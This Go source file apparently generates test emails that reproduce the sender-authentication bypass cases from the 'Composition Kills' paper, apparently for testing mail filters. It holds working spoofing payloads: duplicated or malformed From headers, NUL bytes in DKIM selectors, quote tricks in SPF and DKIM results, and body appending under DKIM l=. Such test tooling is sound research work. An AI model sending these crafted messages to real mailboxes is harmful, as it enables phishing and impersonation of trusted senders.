package forge

import "strings"

// composition are the cases of Chen, Paxson and Jiang, "Composition Kills: A Case Study of
// Email Sender Authentication" (USENIX Security 2020), in the bytes that reach a mailbox: 19
// that bring two programs of one server to disagree, and 3 that bring server and client to.
func composition(p *plot) {
	admin, evil := "<"+p.Admin+">", "<"+p.stranger+">"
	trace := func(from, helo, spf string) []string {
		return []string{"Return-Path: <" + from + ">", "Received-SPF: " + spf, "Received: from " + helo + " (" + helo +
			" [203.0.113.9])\r\n\tby " + Border + " with ESMTP; " + date(p.Now)}
	}
	unsigned := p.answer().raw()
	quoteDomain := func(d string) []byte {
		tags := strings.Replace(Signing{Key: p.evil, At: p.Now}.tags(), "d="+evilDomain, "d="+d, 1)
		return seal(unsigned, p.evil, tags)
	}
	p.add("A1 HELO of the attacker, no such sender domain",
		over(unsigned, trace("any@none."+p.domain, "helo."+evilDomain, "none")...))
	p.add("A2 sender of the envelope that is empty to one",
		over(unsigned, trace("(any@"+p.domain, evilDomain, "pass")...))
	p.add("A3 NUL in the selector", seal(unsigned, p.evil, strings.Replace(Signing{Key: p.evil, At: p.Now}.tags(),
		"d="+evilDomain+"; s=s1", "d="+p.domain+"; s=s1._domainkey."+evilDomain+".\x00any", 1)))
	p.add("A4 result of DKIM with a bracket", quoteDomain(p.domain+"(."+evilDomain))
	p.add("A5 result of DKIM with a quote", quoteDomain(p.domain+`"."`+evilDomain))
	p.add("A6 result of DKIM with an apostrophe", quoteDomain(p.domain+"'.a."+evilDomain))
	p.add("A7 result of SPF with a bracket", over(unsigned, trace("any@"+p.domain+"(."+evilDomain,
		evilDomain, "pass (sender "+p.domain+")")...))
	p.add("A8 result of SPF with an apostrophe",
		over(unsigned, trace(p.domain+"'@a."+evilDomain, evilDomain, "pass")...))
	p.add("A9 route in the envelope", over(unsigned, trace("@"+evilDomain+",@any.com:'any@"+p.domain,
		evilDomain, "pass")...))
	p.add("A10 two From, the attacker's first", p.by(p.evil, p.from(admin).top("From: "+evil)))
	p.add("A11 two From, the admin's first", p.by(p.evil, p.from(evil).top("From: "+admin)))
	p.add("A12 blank in front of From", p.by(p.evil, p.from(evil).top(" From: "+admin)))
	p.add("A13 blank behind From", p.by(p.evil, p.from(evil).top("From : "+admin)))
	p.add("A14 From folded behind its name", p.by(p.evil, p.from(evil).top("From\r\n : "+admin)))
	p.add("A15 Sender and Resent-From for From",
		p.by(p.evil, p.from(evil).drop("From").top("Sender: "+admin, "Resent-From: "+evil)))
	p.add("A16 several addresses", p.by(p.evil, p.from(evil+", "+admin)))
	p.add("A17 several addresses, encoded", p.by(p.evil, p.from("=?utf-8?B?"+base64Of(admin)+"?=, "+evil)))
	p.add("A18 route in From", p.by(p.evil, p.from("<@"+evilDomain+",@any.com:"+p.Admin+">")))
	p.add("A19 quoted pair", p.by(p.evil, p.from(admin+`\, `+evil)))
	p.add("A19 precedence of special characters", p.by(p.evil, p.from(evil+admin)))
	p.add("A19 brackets and words", p.by(p.evil, p.from(admin+" "+evil)))
	p.add("A19 comment between", p.by(p.evil, p.from("("+admin+") "+evil+" (")))
	p.add("A20 replay with another From", over(p.sealed(p.from("<"+p.colleague+">")), "From: "+admin))
	p.add("A20 replay with another Subject", over(p.sealed(p.answer()), "Subject: "+p.SubjectLine+" CONFIRM"))
	p.add("A21 body added behind l=", append(Sign(p.answer().say("CONFIRM\n").raw(), Signing{Key: p.Key, Length: 9}),
		crlf("\n"+p.Introduction()+p.Quoted())...))
	p.add("A21 part added by an unsigned Content-Type", over(Sign(p.answer().say("hm\n").raw(), Signing{Key: p.Key,
		Length: EmptyBody, Fields: unsignedType}), "Content-Type: multipart/mixed; boundary=b"))
	p.add("A22 signed for all by a server that lets anybody in", p.by(p.evil, p.from(admin).set("Sender", evil)))
	p.add("A22 a display name that a client shows alone", p.by(p.evil, p.from(`"`+p.Admin+`" `+evil)))
	p.add("A22 an address behind a NUL", p.by(p.evil, p.from(admin+"\x00"+evil)))
	p.add("A22 an encoded word that a client decodes",
		p.by(p.evil, p.from("=?utf-8?B?"+base64Of(admin+"\x00\n")+"?="+evil)))
}
